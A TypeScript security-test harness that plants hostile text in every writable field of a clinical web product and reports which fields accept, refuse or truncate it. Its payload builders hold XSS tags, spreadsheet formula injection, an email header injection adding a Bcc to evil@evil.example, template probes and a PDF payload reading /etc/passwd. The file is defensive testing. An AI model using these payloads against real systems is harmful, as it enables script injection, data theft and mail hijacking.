import { randomUUID } from 'node:crypto'
import { nextIpAddress, type TestCaller } from '../../server/testing/test-caller.ts'
import type { TestApp } from '../../server/testing/test-app.ts'
import { createAccessFixture, type AccessFixture } from '../access/access-fixture.ts'
import { fillExample, type DeclaredOperation } from '../access/declared-operations.ts'
import { completeInputs } from './complete-inputs.ts'
import { withReplacedText, type TextField } from './hostile-text.ts'
import { everyId, createFreshOperationFixture, type FuzzEnvironment } from './operation-fixture.ts'
import { dependentInputs, type Input } from './dependent-inputs.ts'

/** A text that the product took: what it would be found by. */
export type PlantedText = { field: string; mark: string; text: string }

export type PlantingReport = {
  planted: PlantedText[]
  /** Fields that took no hostile text at all, and what they said. */
  refused: Record<string, string>
  /** Fields that hold less than the shortest of what is planted. */
  tooShort: string[]
  /** Fields in whose place something else was sent. */
  notSent: string[]
  /** Parts of inputs that could hold words, and that no input of ours has. */
  unwritten: string[]
  /** Exemptions that no field needs any more. */
  needless: string[]
  /** What the texts were written to, by what it is called in an address: `consentId`. */
  places: Record<string, string[]>
  scene: AccessFixture
}

type PayloadBuilder = (mark: string) => string

/** What would run if a document were drawn from a text as it is, or written into a PDF as it is. */
const documentPayload = '#panic()$x)/JS('
const longDocumentPayload =
  '#panic() #read("/etc/passwd")$x$ ) Tj ET endstream endobj<</S/JavaScript/JS(alert(1))>>'

/**
 * The most hostile first: what a field does not take as it is, it is offered more plainly. The mark stands outside of
 * tags too, where rich text keeps it.
 */
const payloadBuilders: PayloadBuilder[] = [
  (mark) =>
    `=1+1${mark}\r\nBcc: evil@evil.example\r\n\r\n{{7*7}}\${7*7}\u202E\u2066${longDocumentPayload}<img id=${mark} src=x onerror=alert(1)>`,
  (mark) => `=1+1${mark}{{7*7}}\${7*7}${documentPayload}"'><script id=${mark}>alert(1)</script>`,
  (mark) => `=${mark}${documentPayload}"'><img id=${mark} src=x onerror=alert(1)>`,
  (mark) => `=<b id=${mark}>`,
]

/** Texts that are no words of anybody's choice, by the end of their path; each with the reason. */
const referenceFields: [end: string, why: string][] = [
  ['contentHash', 'a hash, compared with the text that was read'],
  ['code', 'a code that was sent, compared'],
  ['formVersion', 'names a version of a form'],
  ['teeth.*', 'a tooth by its code'],
  ['tooth', 'a tooth by its code'],
  ['passkeyId', 'names a passkey'],
  ['assigneeId', 'names a member of staff, or says that it is nobody'],
  ['website', 'left empty by people: whoever fills it is a program'],
  ['factor', 'names a factor of the vocabulary'],
  ['chosen.*', 'names an answer of a form'],
  ['email', 'an address, with rules of its own'],
  ['login', 'compared with who is known'],
  ['password', 'never stored as text and never shown'],
  ['current', 'a password, compared'],
  ['vatNumber', 'a number of a form of its own'],
  ['colour', 'a colour of a form of its own'],
  ['inrValue', 'a figure'],
  ['inrDate', 'a day'],
  ['reviewOn.text', 'a day'],
  ['libraryIds.*', 'names a template of the library'],
  ['response.id', 'what a device says of its passkey'],
  ['media.url', 'an address that begins with https'],
  ['mark.typed', 'the name, typed again'],
]

/** The same, where other operations take words of this name. */
const validatedFields: Record<string, string> = {
  'account.confirmPhone phone': 'a phone number',
  'account.sendPhoneCode phone': 'a phone number',
  'adminTreatments.removeSubtype name': 'names a subtype',
  'adminTreatments.renameSubtype name': 'names a subtype',
  'adoptions.adopt treatmentType': 'names a treatment type',
  'capacity.decide name': 'the own name, typed again',
  'clinicSettings.close name': 'the practice’s name, typed again',
  'clinicalNotes.settle price': 'a price of a form of its own',
  'consents.finalise name': 'the own name, typed again',
  'consents.recordAddendum attestation': 'a token of identity.attest',
  'dayLists.bringIn seen': 'a mark of what was seen',
  'embeds.addOrigin origin': 'an origin, as browsers compare it',
  'files.singleSignOn.answer body': 'a form, of which a provider’s signed statement is believed alone',
  'files.smartRoutes.token body': 'a form, whose values are compared and stored nowhere',
  'identity.attest requestKey': 'the key of a request',
  'identity.checkPhoneCode phone': 'a phone number',
  'identity.sendEmailLink to': 'an address within the product',
  'identity.sendPhoneCode phone': 'a phone number',
  'identity.startProvider to': 'an address within the product',
  'patientHome.open firstName': 'compared with the patient’s',
  'groupPhrases.add text': 'takes no number, date, name or address',
  'phrases.choose text': 'takes no number, date, name or address',
  'platformDocuments.saveDraft text': 'takes headings, lists and links, and no markup of a page',
  'programs.createEmbed origin': 'compared with the origins that are listed',
  'setupChecks.run recipient': 'an address',
  'setupWizard.keepMail from': 'an address',
  'groupSignOn.saveSaml certificates': 'certificates as PEM',
  'groupSignOn.saveSaml metadata': 'XML, in place of the fields beside it',
  'groupSignOn.saveSaml signInAddress': 'an address that begins with https',
  'singleSignOn.saveSaml certificates': 'certificates as PEM',
  'singleSignOn.saveSaml metadata': 'XML, in place of the fields beside it',
  'singleSignOn.saveSaml signInAddress': 'an address that begins with https',
  'treatments.removeSubtype name': 'names a subtype',
  'treatments.renameSubtype name': 'names a subtype',
  'understanding.answer question': 'names a question',
  'understanding.talk question': 'names a question',
}
const usedExemptions = new Set<string>()

/** Why a text is none of anybody's choice; undefined where it is. */
function exemptionOf(name: string, path: string): string | undefined {
  const plain = path.replaceAll(/\.\d+(?=\.|$)/g, '.*')
  const own = `${name} ${path}`
  const found =
    validatedFields[own] === undefined
      ? referenceFields.find(([end]) => plain === end || plain.endsWith(`.${end}`))?.[0]
      : own
  if (found !== undefined) usedExemptions.add(found)
  return found
}

const isWriting = ({ method, input }: DeclaredOperation) => method !== 'GET' && input !== null

type Attempt = {
  declared: DeclaredOperation
  example: Input
  caller: TestCaller
  ids: Record<string, string>
  theatre: FuzzEnvironment
}
type Field = TextField & { level: number; mark: string }

let markerCount = 0
const createMarker = () => `hostile-${++markerCount}z`

/** Every text of somebody's choice that an operation takes, as an input of it has them. */
function fieldsOf({ name, input }: DeclaredOperation, example: Input): Field[] {
  const found: Field[] = []
  const note = (field: TextField) => {
    if (exemptionOf(name, field.path) === undefined) found.push({ ...field, level: 0, mark: createMarker() })
    return undefined
  }
  withReplacedText(input!, example, { path: '', part: '', write: note })
  return found
}

/** The parts of an operation's inputs that could hold words, and that none of these inputs has. */
function unwrittenParts({ name, input }: DeclaredOperation, examples: readonly Input[]): string[] {
  const [there, all] = [new Set<string>(), new Set<string>()]
  const meet = (part: string, isThere: boolean) => {
    all.add(part)
    if (isThere) there.add(part)
  }
  for (const example of examples)
    withReplacedText(input!, example, { path: '', part: '', write: () => undefined, meet })
  return [...all].filter((part) => !there.has(part)).map((part) => `${name} ${part}`)
}

const textOf = ({ level, mark, max }: Field): string | null =>
  payloadBuilders
    .slice(level)
    .map((plant) => plant(mark))
    .find((text) => text.length <= max) ?? null

async function attempt({ declared, example, caller, ids, theatre }: Attempt, fields: readonly Field[]) {
  const byPath = new Map(fields.map((field) => [field.path, textOf(field) ?? undefined]))
  const hostile = withReplacedText(declared.input!, fillExample(example, ids), {
    ...{ path: '', part: '' },
    write: ({ path }) => byPath.get(path),
  }) as Input
  const { testApp, clinic } = theatre
  const idempotencyKey = randomUUID()
  const asked = { testApp, clinic, caller, input: hostile, idempotencyKey }
  const input = { ...hostile, ...(await dependentInputs[declared.name]?.(asked)) }
  const answer = await caller.send(declared.request(input), { from: nextIpAddress(), idempotencyKey })
  return { answer, input }
}

/** Whether what was told to be wrong with an input is this field, or part of it. */
const isExpectedRefusal = (told: readonly { field: string }[] | undefined, { path }: Field) =>
  told?.some(({ field }) => path === field || path.startsWith(`${field}.`) || field.startsWith(`${path}.`))

type Outcome = { planted: Field[]; refused: [string, string][]; input?: Input; made?: string | undefined }

/** Writes as hostile as each field takes; those that take nothing are told. */
async function plantInOperation(
  theatre: FuzzEnvironment,
  declared: DeclaredOperation,
  example: Input,
  all: Field[],
): Promise<Outcome> {
  let fields = all
  const refused: [string, string][] = []
  const drop = (dropped: readonly Field[], why: string) => {
    for (const { path } of dropped) refused.push([`${declared.name} ${path}`, why])
    fields = fields.filter((field) => !dropped.includes(field))
  }
  let isFresh = false
  while (fields.length > 0) {
    const own = isFresh ? { ...theatre, ready: null } : theatre
    const { permitted, ids } = await createFreshOperationFixture(own, declared)
    const asking = { declared, example, caller: permitted[0]!, ids, theatre: own }
    const { answer, input } = await attempt(asking, fields)
    if (!answer.error)
      return { planted: fields, refused, input, made: (answer.body as { id?: string } | null)?.id }
    const told = answer.error.details.fields
    const meant = fields.filter((field) => isExpectedRefusal(told, field))
    const lowered = meant.length > 0 ? meant : fields
    const last = lowered.filter((field) => field.level === payloadBuilders.length - 1)
    for (const field of lowered) field.level = Math.min(field.level + 1, payloadBuilders.length - 1)
    if (meant.length > 0 || isFresh) drop(last, `${answer.status} ${answer.reason}`)
    // Not a matter of one text: perhaps of what it was tried on.
    else if (last.length === fields.length) {
      isFresh = true
      for (const field of fields) field.level = 1
    }
  }
  return { planted: [], refused }
}

/** What the operations of a module make, as addresses call it. */
const creatorByOperation: Record<string, string> = {
  consents: 'consentId',
  dataProtection: 'breachId',
  dataRequests: 'requestId',
  patients: 'patientId',
  templates: 'templateId',
  tickets: 'ticketId',
  videos: 'videoId',
}

/** Puts hostile text wherever the product takes text, as whoever may write it. */
export async function plantEverywhere(
  testApp: TestApp,
  order: readonly DeclaredOperation[],
): Promise<PlantingReport> {
  const scene = await createAccessFixture(testApp.clinicA, everyId)
  const theatre: FuzzEnvironment = { testApp, clinic: testApp.clinicA, ready: scene }
  const planting = new PlantingSession(theatre)
  for (const declared of order.filter(isWriting)) await planting.sow(declared)
  const { planted, refused, tooShort, notSent, unwritten, places } = planting
  const needless = [...referenceFields.map(([end]) => end), ...Object.keys(validatedFields)].filter(
    (one) => !usedExemptions.has(one),
  )
  return { planted, refused, tooShort, notSent, unwritten, places, needless, scene }
}

class PlantingSession {
  readonly planted: PlantedText[] = []
  readonly refused: Record<string, string> = {}
  readonly tooShort: string[] = []
  readonly notSent: string[] = []
  readonly unwritten: string[] = []
  readonly places: Record<string, string[]> = {}
  readonly #theatre: FuzzEnvironment

  constructor(theatre: FuzzEnvironment) {
    this.#theatre = theatre
  }

  /** One operation, with each input that has parts which the ones before have not. */
  async sow(declared: DeclaredOperation): Promise<void> {
    const { name, meta } = declared
    const example = meta.example as Input
    const inputs = [example, ...(completeInputs[name] ?? []).map((more) => ({ ...example, ...more }))]
    this.unwritten.push(...unwrittenParts(declared, inputs))
    const known = new Set<string>()
    for (const input of inputs) {
      const fields = fieldsOf(declared, input).filter(({ path }) => !known.has(path))
      for (const { path } of fields) known.add(path)
      const short = fields.filter((field) => textOf(field) === null)
      this.tooShort.push(...short.map(({ path }) => `${name} ${path}`))
      const asked = fields.filter((field) => !short.includes(field))
      this.#note(declared, await plantInOperation(this.#theatre, declared, input, asked))
    }
  }

  #note({ name }: DeclaredOperation, { planted, refused, input = {}, made }: Outcome): void {
    const sent = JSON.stringify(input)
    for (const field of planted) {
      const own = `${name} ${field.path}`
      // What is settled otherwise than by words is no place for any.
      if (sent.includes(field.mark)) this.planted.push({ field: own, mark: field.mark, text: textOf(field)! })
      else this.notSent.push(own)
    }
    Object.assign(this.refused, Object.fromEntries(refused))
    for (const [place, id] of Object.entries(input)) if (place.endsWith('Id')) this.#noteId(place, id)
    this.#noteId(creatorByOperation[name.split('.')[0]!] ?? '', made)
  }

  #noteId(place: string, id: unknown): void {
    if (typeof id === 'string') (this.places[place] ??= []).push(id)
  }
}
